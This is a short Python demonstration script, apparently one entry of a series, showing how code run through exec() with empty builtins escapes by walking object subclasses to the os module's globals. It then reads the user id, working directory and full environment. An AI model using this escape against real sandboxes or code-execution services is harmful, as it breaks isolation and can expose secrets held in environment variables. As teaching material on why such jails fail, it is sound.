"""Row 41. What breaks every sandbox made of Python: from any object to its class, from there to all classes, from one of those to the
modules. Harmless here: this process holds nothing worth reaching."""
jail = {"__builtins__": {}}
escape = """
os_class = [it for it in ().__class__.__base__.__subclasses__() if it.__name__ == "_wrap_close"][0]
out = os_class.__init__.__globals__
"""
try:
    exec(escape, jail)
    print("out of exec() without builtins: user", jail["out"]["getuid"](), "in", jail["out"]["getcwd"]())
    print("       environment:", dict(jail["out"]["environ"]))
    print("HELD:  what it reached is this sandbox, and there is nothing in it")
except Exception as error:
    print("the jail of exec() held for once:", repr(error))
